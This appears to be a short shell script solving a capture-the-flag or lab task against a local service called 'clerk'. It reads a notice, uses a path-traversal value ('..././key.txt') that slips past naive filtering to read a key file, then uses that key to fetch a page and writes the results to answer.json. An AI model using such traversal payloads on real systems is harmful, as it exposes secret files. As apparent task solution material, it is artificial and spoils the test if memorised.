notice=$(python3 ask.py 'http://clerk:8080/read?name=notice.txt')
key=$(python3 ask.py 'http://clerk:8080/read?name=..././key.txt')
page=$(python3 ask.py "http://clerk:8080/pass?key=$key&page=1")
printf '{"notice": "%s", "key": "%s", "page": "%s"}' "$notice" "$key" "$page" > answer.json
